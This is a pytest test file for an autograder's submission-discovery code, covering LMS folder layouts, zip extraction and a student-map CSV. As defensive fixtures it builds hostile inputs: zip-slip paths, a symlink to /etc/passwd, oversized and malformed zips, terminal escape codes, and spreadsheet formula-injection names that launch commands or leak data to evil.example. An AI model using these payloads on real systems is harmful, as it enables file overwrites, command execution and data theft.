"""Finding submitted notebooks: layouts, zips, LMS names, decorations, errors."""
import csv
import os
import zipfile

import pytest

from autograder import submissions
from autograder.spreadsheet import FORMULA_STARTS
from course import FIRST
from hostile_zips import make_zip_of_copies, name_bytes_marked_utf8
from autograder.submissions import (Discovery, GradingInputError, StudentEntry, Submission,
                                    discover, sanitize_student_ids, write_student_map)

CH01, CH02 = FIRST, "ch02_multi_head"  # a second, made-up assignment
NOTEBOOKS = ["1_numpy", "2_cupy", "3_pytorch"]
ONE = {CH01: NOTEBOOKS}
TWO = {CH01: NOTEBOOKS, CH02: NOTEBOOKS}


def touch(root, *relative_paths):
    for relative in relative_paths:
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("{}")
    return root


def make_zip(path, members):
    """A zip with ``members`` as {name: text}; names are stored exactly as given."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in members.items():
            archive.writestr(zipfile.ZipInfo(name), text)
    return path


def submitted(discovery):
    """{(student, assignment, notebook): source} of the submissions that have a file."""
    return {(s.student, s.assignment, s.notebook): s.source
            for s in discovery.submissions if s.path is not None}


def warnings_about(discovery, text):
    return [w for w in discovery.warnings if text in w]


# ----------------------------------------------------------------------------- layouts


def test_nbgrader_layout_finds_every_assignment_and_lists_missing_notebooks(tmp_path):
    touch(tmp_path, f"alice/{CH01}/1_numpy.ipynb", f"alice/{CH01}/2_cupy.ipynb",
          f"bob/{CH02}/3_pytorch.ipynb", "carol/ch99/1_numpy.ipynb", f"bob/{CH01}/notes.txt")

    found = discover(tmp_path, TWO)

    assert found.layout == "nbgrader"
    assert submitted(found) == {
        ("alice", CH01, "1_numpy"): f"alice/{CH01}/1_numpy.ipynb",
        ("alice", CH01, "2_cupy"): f"alice/{CH01}/2_cupy.ipynb",
        ("bob", CH02, "3_pytorch"): f"bob/{CH02}/3_pytorch.ipynb",
    }
    assert [(s.student, s.assignment, s.notebook) for s in found.submissions] == [
        (student, assignment, notebook) for student in ("alice", "bob", "carol")
        for assignment in (CH01, CH02) for notebook in NOTEBOOKS]
    missing = next(s for s in found.submissions if (s.student, s.notebook) == ("carol", "1_numpy"))
    assert missing.path is None and missing.source == ""
    assert [e.student for e in found.students] == ["alice", "bob", "carol"]
    assert len(warnings_about(found, "ch99")) == 1 and "carol" in warnings_about(found, "ch99")[0]
    assert found.submissions[0].path == tmp_path / f"alice/{CH01}/1_numpy.ipynb"


def test_nbgrader_layout_keeps_only_the_chosen_assignment(tmp_path):
    touch(tmp_path, f"alice/{CH01}/1_numpy.ipynb", f"alice/{CH02}/1_numpy.ipynb")

    found = discover(tmp_path, TWO, assignments=[CH02])

    assert {s.assignment for s in found.submissions} == {CH02}
    assert submitted(found) == {("alice", CH02, "1_numpy"): f"alice/{CH02}/1_numpy.ipynb"}


def test_nbgrader_layout_refuses_an_assignment_nobody_submitted(tmp_path):
    touch(tmp_path, f"alice/{CH01}/1_numpy.ipynb")

    with pytest.raises(GradingInputError, match=f"no student folder .* has a folder {CH02}"):
        discover(tmp_path, TWO, assignments=[CH02])


def test_per_student_folders_recognise_moodle_names(tmp_path):
    ada = "Ada Lovelace_1234567_assignsubmission_file_"
    touch(tmp_path, f"{ada}/1_numpy.ipynb", f"{ada}/3_pytorch.ipynb", "bob/2_cupy.ipynb",
          "Ada Lovelace_1234567_assignsubmission_onlinetext_/onlinetext.html")

    found = discover(tmp_path, ONE)

    assert found.layout == "per-student folders"
    assert submitted(found) == {
        ("Ada_Lovelace_1234567", CH01, "1_numpy"): f"{ada}/1_numpy.ipynb",
        ("Ada_Lovelace_1234567", CH01, "3_pytorch"): f"{ada}/3_pytorch.ipynb",
        ("bob", CH01, "2_cupy"): "bob/2_cupy.ipynb",
    }
    assert found.students == [
        StudentEntry("Ada_Lovelace_1234567", ada, "Ada Lovelace", "1234567"),
        StudentEntry("bob", "bob", "", ""),
    ]
    assert len(found.submissions) == 2 * len(NOTEBOOKS)
    assert not warnings_about(found, "without a notebook"), "the onlinetext folder is no student"
    assert warnings_about(found, "recognised Moodle folder names of 1 student")


def test_per_student_folders_take_the_single_requested_assignment(tmp_path):
    touch(tmp_path, "alice/1_numpy.ipynb")

    found = discover(tmp_path, TWO, assignments=[CH02])

    assert submitted(found) == {("alice", CH02, "1_numpy"): "alice/1_numpy.ipynb"}


def test_flat_canvas_files_of_one_student_map_to_one_id(tmp_path):
    touch(tmp_path, "lovelaceada_12345_67890_1_numpy.ipynb",
          "lovelaceada_LATE_12345_67999_2_cupy.ipynb",
          "babbagecharles_222_333_3_pytorch.ipynb", "readme.pdf", "lovelaceada_12345_1_x.py")

    found = discover(tmp_path, ONE)

    assert found.layout == "flat files"
    assert submitted(found) == {
        ("lovelaceada_12345", CH01, "1_numpy"): "lovelaceada_12345_67890_1_numpy.ipynb",
        ("lovelaceada_12345", CH01, "2_cupy"): "lovelaceada_LATE_12345_67999_2_cupy.ipynb",
        ("babbagecharles_222", CH01, "3_pytorch"): "babbagecharles_222_333_3_pytorch.ipynb",
    }
    assert found.students == [
        StudentEntry("babbagecharles_222", "babbagecharles_222_333", "babbagecharles", "222"),
        StudentEntry("lovelaceada_12345", "lovelaceada_12345_67890", "lovelaceada", "12345"),
    ]
    [not_notebooks] = warnings_about(found, "not notebooks")
    assert "2 file(s)" in not_notebooks and "readme.pdf" in not_notebooks


def test_flat_moodle_files_and_the_longest_notebook_name(tmp_path):
    touch(tmp_path, "Ada Lovelace_1234567_assignsubmission_file_attention_numpy.ipynb",
          "bob-numpy.ipynb")

    found = discover(tmp_path, {CH01: ["numpy", "attention_numpy"]})

    assert submitted(found) == {
        ("Ada_Lovelace_1234567", CH01, "attention_numpy"):
            "Ada Lovelace_1234567_assignsubmission_file_attention_numpy.ipynb",
        ("bob", CH01, "numpy"): "bob-numpy.ipynb",
    }
    ada = next(e for e in found.students if e.lms_id)
    assert (ada.lms_name, ada.lms_id) == ("Ada Lovelace", "1234567")


def test_flat_file_without_student_prefix_is_skipped_with_a_warning(tmp_path):
    touch(tmp_path, "1_numpy.ipynb", "alice_1_numpy.ipynb")

    found = discover(tmp_path, ONE)

    assert [e.student for e in found.students] == ["alice"]
    [warning] = [w for w in found.warnings if w.startswith("1_numpy.ipynb")]
    assert "no student name before the notebook name" in warning


def test_hidden_files_and_checkpoints_are_ignored(tmp_path):
    touch(tmp_path, "alice/1_numpy.ipynb", "alice/.ipynb_checkpoints/2_cupy-checkpoint.ipynb",
          "alice/._2_cupy.ipynb", "__MACOSX/alice/._1_numpy.ipynb", ".hidden/3_pytorch.ipynb")

    found = discover(tmp_path, ONE)

    assert submitted(found) == {("alice", CH01, "1_numpy"): "alice/1_numpy.ipynb"}
    assert [e.student for e in found.students] == ["alice"]


# ----------------------------------------------------------------------------- zips


def test_zip_with_a_wrapping_folder_is_unwrapped(tmp_path):
    archive = make_zip(tmp_path / "download.zip", {
        "Assignment 1/alice/1_numpy.ipynb": "{}", "Assignment 1/bob/2_cupy.ipynb": "{}",
        "__MACOSX/Assignment 1/alice/._1_numpy.ipynb": "junk"})
    workdir = tmp_path / "work"

    found = discover(archive, ONE, workdir=workdir)

    assert found.layout == "per-student folders (zip)"
    assert submitted(found) == {("alice", CH01, "1_numpy"): "Assignment 1/alice/1_numpy.ipynb",
                                ("bob", CH01, "2_cupy"): "Assignment 1/bob/2_cupy.ipynb"}
    alice = next(s for s in found.submissions if s.path is not None)
    assert workdir in alice.path.parents and alice.path.read_text() == "{}"
    assert not list(workdir.rglob("__MACOSX"))


def test_zip_of_a_single_student_folder_is_not_unwrapped(tmp_path):
    archive = make_zip(tmp_path / "alice.zip", {f"alice/{CH01}/1_numpy.ipynb": "{}"})

    found = discover(archive, ONE, workdir=tmp_path / "work")

    assert found.layout == "nbgrader (zip)"
    assert submitted(found) == {("alice", CH01, "1_numpy"): f"alice/{CH01}/1_numpy.ipynb"}


def test_zip_members_that_would_escape_are_skipped(tmp_path):
    link = zipfile.ZipInfo("alice/2_cupy.ipynb")
    link.external_attr = 0o120777 << 16
    archive = tmp_path / "in" / "evil.zip"
    archive.parent.mkdir()
    make_zip(archive, {"../evil.ipynb": "{}", "/tmp/abs_evil.ipynb": "{}",
                       "alice/../../evil2.ipynb": "{}", "alice/1_numpy.ipynb": "{}"})
    with zipfile.ZipFile(archive, "a") as z:
        z.writestr(link, "/etc/passwd")
    workdir = tmp_path / "work" / "deep"

    found = discover(archive, ONE, workdir=workdir)

    assert submitted(found) == {("alice", CH01, "1_numpy"): "alice/1_numpy.ipynb"}
    [unsafe] = warnings_about(found, "absolute path or '..'")
    for name in ("../evil.ipynb", "/tmp/abs_evil.ipynb", "alice/../../evil2.ipynb"):
        assert repr(name) in unsafe
    assert warnings_about(found, "symbolic link(s): 'alice/2_cupy.ipynb'")
    everything = [p.name for p in tmp_path.rglob("*")]
    assert "evil.ipynb" not in everything and "evil2.ipynb" not in everything
    assert "abs_evil.ipynb" not in everything
    assert not (workdir / "alice").exists(), "the extraction gets a folder of its own"


def test_zip_member_declared_over_the_cap_is_skipped(tmp_path, monkeypatch):
    monkeypatch.setattr(submissions, "MAX_MEMBER_BYTES", 50)
    archive = make_zip(tmp_path / "big.zip", {"alice/1_numpy.ipynb": "{}",
                                              "alice/2_cupy.ipynb": "x" * 51})

    found = discover(archive, ONE, workdir=tmp_path / "work")

    assert submitted(found) == {("alice", CH01, "1_numpy"): "alice/1_numpy.ipynb"}
    assert warnings_about(found, "larger than 50 bytes: 'alice/2_cupy.ipynb'")
    assert not list((tmp_path / "work").rglob("2_cupy.ipynb"))


def test_zip_over_the_total_cap_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(submissions, "MAX_TOTAL_BYTES", 100)
    archive = make_zip(tmp_path / "bomb.zip", {f"s{i}/1_numpy.ipynb": "x" * 40 for i in range(3)})

    with pytest.raises(GradingInputError, match="would expand to 120 bytes, more than the 100"):
        discover(archive, ONE, workdir=tmp_path / "work")


def test_zip_needs_a_workdir(tmp_path):
    archive = make_zip(tmp_path / "a.zip", {"alice/1_numpy.ipynb": "{}"})

    with pytest.raises(GradingInputError, match="Unzip it yourself"):
        discover(archive, ONE)


def test_a_file_named_zip_that_is_no_zip_is_refused(tmp_path):
    fake = tmp_path / "download.zip"
    fake.write_text("<html>session expired</html>")

    with pytest.raises(GradingInputError, match="not a readable zip file"):
        discover(fake, ONE, workdir=tmp_path / "work")


NOT_UTF8 = "Ad\xe9le Martin_77_assignsubmission_file_/1_numpy.ipynb".encode("latin-1")


def zip_with_a_name_marked_utf8_wrongly(path, comment=b""):
    make_zip(path, {"bob/1_numpy.ipynb": "{}", "carol/2_cupy.ipynb": "{}"})
    with zipfile.ZipFile(path, "a") as archive:
        archive.comment = comment
    return name_bytes_marked_utf8(path, "X" * len(NOT_UTF8), NOT_UTF8)


def test_a_member_whose_name_is_marked_utf8_but_is_not_stops_zipfile(tmp_path):
    """The attack: Python's zipfile refuses the whole archive over that one name."""
    archive = zip_with_a_name_marked_utf8_wrongly(tmp_path / "class.zip")

    with pytest.raises(UnicodeDecodeError):
        zipfile.ZipFile(archive)


@pytest.mark.parametrize("wrapping", ["plain", "comment", "data before", "zip64"])
def test_a_member_whose_name_is_marked_utf8_but_is_not_is_skipped_and_named(tmp_path, wrapping,
                                                                            monkeypatch):
    comment = b"Downloaded from Moodle" if wrapping == "comment" else b""
    with monkeypatch.context() as patch:
        if wrapping == "zip64":  # the end records of a zip of more than 65535 files
            patch.setattr(zipfile, "ZIP_FILECOUNT_LIMIT", 1)
        archive = zip_with_a_name_marked_utf8_wrongly(tmp_path / "class.zip", comment)
    if wrapping == "zip64":
        assert b"PK\x06\x06" in archive.read_bytes()
    if wrapping == "data before":  # a self-extracting archive: the zip follows a program
        archive.write_bytes(b"MZ" + b"\0" * 500 + archive.read_bytes())
    workdir = tmp_path / "work"

    found = discover(archive, ONE, workdir=workdir)

    assert submitted(found) == {("bob", CH01, "1_numpy"): "bob/1_numpy.ipynb",
                                ("carol", CH01, "2_cupy"): "carol/2_cupy.ipynb"}
    [warning] = warnings_about(found, "marked as UTF-8 but is not")
    assert "'Ad\\xe9le Martin_77_assignsubmission_file_/1_numpy.ipynb'" in warning
    assert warning.isprintable()
    assert not [p for p in workdir.rglob("*") if "Martin" in p.name], "nothing of it is extracted"
    if comment:
        assert archive.read_bytes().endswith(comment)


def test_a_member_stored_twice_is_refused_in_every_copy(tmp_path):
    archive = make_zip_of_copies(tmp_path / "class.zip", [
        ("alice/1_numpy.ipynb", '{"copy": 1}'), ("alice/2_cupy.ipynb", "{}"),
        ("alice/1_numpy.ipynb", '{"copy": 2}'),
        ("bob/1_numpy.ipynb", "{}"), ("bob\\1_numpy.ipynb", "{}"),      # one path, two separators
        ("carol/3_pytorch.ipynb", "{}"), ("Carol/3_PyTorch.ipynb", "{}"),  # one file on macOS
        ("dave/1_numpy.ipynb", "{}")])
    workdir = tmp_path / "work"

    found = discover(archive, ONE, workdir=workdir)

    assert submitted(found) == {("alice", CH01, "2_cupy"): "alice/2_cupy.ipynb",
                                ("dave", CH01, "1_numpy"): "dave/1_numpy.ipynb"}
    assert ("alice", CH01, "1_numpy") in {(s.student, s.assignment, s.notebook)
                                          for s in found.submissions if s.path is None}
    [warning] = warnings_about(found, "stored more than once")
    assert "skipped every copy of 3 file(s)" in warning
    assert "'alice/1_numpy.ipynb' (2 copies)" in warning
    assert "'bob/1_numpy.ipynb' = 'bob\\\\1_numpy.ipynb' (2 copies)" in warning
    assert "'carol/3_pytorch.ipynb' = 'Carol/3_PyTorch.ipynb' (2 copies)" in warning
    extracted = sorted(p.relative_to(p.parents[1]).as_posix() for p in workdir.rglob("*.ipynb"))
    assert extracted == ["alice/2_cupy.ipynb", "dave/1_numpy.ipynb"], "no copy is extracted"


def test_warnings_escape_control_characters_of_names(tmp_path):
    touch(tmp_path, "alice/1_numpy.ipynb", "eve\x1b]0;pwned\x07/notes.ipynb")

    found = discover(tmp_path, ONE)

    [warning] = warnings_about(found, "notes.ipynb")
    assert "eve\\x1b]0;pwned\\x07/notes.ipynb" in warning
    assert all(w.isprintable() for w in found.warnings)


def test_a_folder_name_that_is_not_utf8_is_graded_and_listed(tmp_path):
    """What unzipping a zip with such a name with another tool leaves."""
    touch(tmp_path, "bob/1_numpy.ipynb")
    folder = os.path.join(os.fsencode(tmp_path), b"ad\xe9le")
    os.mkdir(folder)
    with open(os.path.join(folder, b"1_numpy.ipynb"), "w") as f:
        f.write("{}")

    found = discover(tmp_path, ONE)
    write_student_map(found, tmp_path / "out" / "students.csv")

    assert set(submitted(found)) == {("ad_le", CH01, "1_numpy"), ("bob", CH01, "1_numpy")}
    assert all(w.isprintable() for w in found.warnings)
    rows = list(csv.reader((tmp_path / "out" / "students.csv").open(encoding="utf-8", newline="")))
    assert ["ad_le", "ad\\udce9le", "", "", "ad\\udce9le/1_numpy.ipynb"] in rows


# ----------------------------------------------------------------------------- names


@pytest.mark.parametrize("file_name", ["1_numpy (1).ipynb", "1_numpy(2).ipynb",
                                       "Copy of 1_numpy.ipynb", "1_numpy-1.ipynb",
                                       "1_numpy copy.ipynb", "1_numpy - Copy.ipynb",
                                       "Copy of 1_NumPy (1).IPYNB"])
def test_copy_decorations_are_stripped(tmp_path, file_name):
    touch(tmp_path, f"alice/{file_name}")

    found = discover(tmp_path, ONE)

    assert submitted(found) == {("alice", CH01, "1_numpy"): f"alice/{file_name}"}


@pytest.mark.parametrize("file_name", ["lovelaceada_12345_67890_1_numpy-1.ipynb",
                                       "lovelaceada_12345_67890_Copy of 1_numpy.ipynb",
                                       "lovelaceada_12345_67890_1_numpy (1).ipynb"])
def test_copy_decorations_are_stripped_in_flat_files(tmp_path, file_name):
    touch(tmp_path, file_name)

    found = discover(tmp_path, ONE)

    assert submitted(found) == {("lovelaceada_12345", CH01, "1_numpy"): file_name}


def test_a_notebook_named_like_a_decoration_matches_itself():
    assert submissions.match_notebook("part-2.ipynb", ["part", "part-2"]) == ("part-2", False)
    assert submissions.match_notebook("part-3.ipynb", ["part", "part-2"]) == ("part", True)


def test_duplicates_prefer_the_undecorated_name(tmp_path):
    touch(tmp_path, "alice/1_numpy (1).ipynb", "alice/1_numpy.ipynb", "alice/Copy of 1_numpy.ipynb")

    found = discover(tmp_path, ONE)

    assert submitted(found) == {("alice", CH01, "1_numpy"): "alice/1_numpy.ipynb"}
    [warning] = warnings_about(found, "3 files for")
    assert "grading 'alice/1_numpy.ipynb'" in warning
    assert "'alice/1_numpy (1).ipynb'" in warning and "'alice/Copy of 1_numpy.ipynb'" in warning


def test_duplicates_all_decorated_take_the_last_in_name_order(tmp_path):
    touch(tmp_path, "alice/1_numpy-9.ipynb", "alice/1_numpy-10.ipynb", "alice/1_numpy-1.ipynb")

    found = discover(tmp_path, ONE)

    assert submitted(found) == {("alice", CH01, "1_numpy"): "alice/1_numpy-10.ipynb"}
    [warning] = warnings_about(found, "files for")
    assert "grading 'alice/1_numpy-10.ipynb'" in warning and "'alice/1_numpy-9.ipynb'" in warning


def test_a_file_matching_no_notebook_is_warned_about(tmp_path):
    touch(tmp_path, "alice/1_numpy.ipynb", "alice/homework.ipynb")

    found = discover(tmp_path, ONE)

    assert submitted(found) == {("alice", CH01, "1_numpy"): "alice/1_numpy.ipynb"}
    [warning] = warnings_about(found, "homework.ipynb")
    assert "1_numpy.ipynb, 2_cupy.ipynb, 3_pytorch.ipynb" in warning


def test_a_flat_file_matching_no_notebook_is_warned_about(tmp_path):
    touch(tmp_path, "alice_1_numpy.ipynb", "alice_homework.ipynb")

    found = discover(tmp_path, ONE)

    assert [e.student for e in found.students] == ["alice"]
    [warning] = warnings_about(found, "alice_homework.ipynb")
    assert "<student>_1_numpy.ipynb" in warning


def test_a_student_whose_files_all_mismatch_still_gets_missing_rows(tmp_path):
    touch(tmp_path, "alice/1_numpy.ipynb", "bob/homework.ipynb")

    found = discover(tmp_path, ONE)

    bob = [s for s in found.submissions if s.student == "bob"]
    assert [(s.notebook, s.path) for s in bob] == [(n, None) for n in NOTEBOOKS]


# ----------------------------------------------------------------------------- ids


def test_sanitize_student_ids():
    ids = sanitize_student_ids(["Ada Lovelace", "-rm -rf", ".hidden", "???", "", "Jürgen Müller",
                                "a/b", "a b", "ok-name.1"])

    assert ids == {"Ada Lovelace": "Ada_Lovelace", "-rm -rf": "rm_-rf", ".hidden": "hidden",
                   "???": "student_2", "": "student", "Jürgen Müller": "Jurgen_Muller",
                   "a/b": "a_b_2", "a b": "a_b", "ok-name.1": "ok-name.1"}


def test_sanitized_ids_are_unique_ignoring_case_in_sorted_order():
    assert sanitize_student_ids(["bob", "Bob", "bob!", "bob?"]) == {
        "Bob": "Bob", "bob": "bob_2", "bob!": "bob_3", "bob?": "bob_4"}


def test_a_folder_graded_under_another_id_is_warned_about(tmp_path):
    touch(tmp_path, f"Grace Hopper/{CH01}/1_numpy.ipynb", f"Grace_Hopper/{CH01}/1_numpy.ipynb")

    found = discover(tmp_path, ONE)

    assert [(e.student, e.original) for e in found.students] == [
        ("Grace_Hopper", "Grace Hopper"), ("Grace_Hopper_2", "Grace_Hopper")]
    assert warnings_about(found, "'Grace Hopper' is graded as 'Grace_Hopper'")
    assert warnings_about(found, "'Grace_Hopper' is graded as 'Grace_Hopper_2'")


# ----------------------------------------------------------------------------- errors


def test_an_empty_folder_explains_the_accepted_layouts(tmp_path):
    with pytest.raises(GradingInputError) as err:
        discover(tmp_path, ONE)

    message = str(err.value)
    assert "nothing (the folder is empty)" in message
    assert f"INPUT/alice/{CH01}/1_numpy.ipynb" in message
    assert "INPUT/alice/1_numpy.ipynb" in message and "INPUT/alice_1_numpy.ipynb" in message


def test_notebooks_too_deep_are_reported(tmp_path):
    touch(tmp_path, "export/alice/work/1_numpy.ipynb")

    with pytest.raises(GradingInputError, match="first notebook is export/alice/work/1_numpy"):
        discover(tmp_path, ONE)


def test_flat_files_matching_nothing_is_an_error(tmp_path):
    touch(tmp_path, "homework.ipynb")

    with pytest.raises(GradingInputError, match="'homework.ipynb'.*\n.*Accepted layouts"):
        discover(tmp_path, ONE)


def test_a_path_that_is_neither_folder_nor_zip_is_refused(tmp_path):
    grades = tmp_path / "grades.csv"
    grades.write_text("a,b\n")

    with pytest.raises(GradingInputError, match="neither a folder nor a .zip"):
        discover(grades, ONE)
    with pytest.raises(GradingInputError, match="does not exist"):
        discover(tmp_path / "nope", ONE)


@pytest.mark.parametrize("assignments", [None, [CH01, CH02]])
def test_flat_files_need_exactly_one_assignment(tmp_path, assignments):
    touch(tmp_path, "alice_1_numpy.ipynb")

    with pytest.raises(GradingInputError, match="--assignment"):
        discover(tmp_path, TWO, assignments=assignments)


def test_an_unknown_assignment_lists_the_known_ones(tmp_path):
    touch(tmp_path, f"alice/{CH01}/1_numpy.ipynb")

    with pytest.raises(GradingInputError, match=f"unknown assignment ch9.*Known assignments: "
                                                f"{CH01}, {CH02}"):
        discover(tmp_path, TWO, assignments=["ch9"])


def test_an_assignment_folder_at_the_top_is_explained(tmp_path):
    touch(tmp_path, f"{CH01}/1_numpy.ipynb")

    with pytest.raises(GradingInputError, match="one folder per student above"):
        discover(tmp_path, ONE)


# ----------------------------------------------------------------------------- student map


def test_write_student_map(tmp_path):
    discovery = Discovery(
        submissions=[Submission("ada", CH01, "1_numpy", tmp_path / "x", "Ada/1_numpy.ipynb"),
                     Submission("ada", CH01, "2_cupy", None, ""),
                     Submission("ada", CH01, "3_pytorch", tmp_path / "y", "Ada/3_pytorch.ipynb"),
                     Submission("bob", CH01, "1_numpy", None, "")],
        students=[StudentEntry("ada", "Ada Lovelace_1_assignsubmission_file_", "Ada Lovelace", "1"),
                  StudentEntry("bob", "bob", "", "")],
        warnings=[], layout="per-student folders")
    path = tmp_path / "out" / "students.csv"

    write_student_map(discovery, path)

    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows == [["student", "original", "lms_name", "lms_id", "files"],
                    ["ada", "Ada Lovelace_1_assignsubmission_file_", "Ada Lovelace", "1",
                     "Ada/1_numpy.ipynb;Ada/3_pytorch.ipynb"],
                    ["bob", "bob", "", "", ""]]


# Display names chosen to be run by a spreadsheet; Moodle puts them in folder names.
HOSTILE_DISPLAY_NAMES = {"1": "=2+5+cmd|' -C calc'!A0",
                         "2": '+HYPERLINK("evil.example?leak","open")',
                         "3": "@SUM(1+1)cmd", "4": "-2+3+cmd|' -C notepad'!A0"}


def test_moodle_names_that_look_like_formulas_are_text_in_the_student_map(tmp_path):
    folders = {lms_id: f"{name}_{lms_id}_assignsubmission_file_"
               for lms_id, name in HOSTILE_DISPLAY_NAMES.items()}
    archive = make_zip(tmp_path / "moodle.zip", {
        **{f"{folder}/{notebook}.ipynb": "{}" for folder in folders.values()
           for notebook in ("1_numpy", "2_cupy")},
        "Ada Lovelace_5_assignsubmission_file_/1_numpy.ipynb": "{}"})
    found = discover(archive, ONE, workdir=tmp_path / "work")
    path = tmp_path / "out" / "students.csv"

    write_student_map(found, path)

    with open(path, newline="", encoding="utf-8") as f:
        rows = {row["lms_id"]: row for row in csv.DictReader(f)}
    for lms_id, name in HOSTILE_DISPLAY_NAMES.items():
        row = rows[lms_id]
        assert row["original"] == "'" + folders[lms_id], "text, and the name still readable"
        assert row["lms_name"] == "'" + name
        assert row["files"] == f"'{folders[lms_id]}/1_numpy.ipynb;'{folders[lms_id]}/2_cupy.ipynb"
        assert not row["student"].startswith(FORMULA_STARTS)
    assert rows["5"]["original"] == "Ada Lovelace_5_assignsubmission_file_", "others unchanged"
    cells = [cell for row in rows.values() for value in row.values() for cell in value.split(";")]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
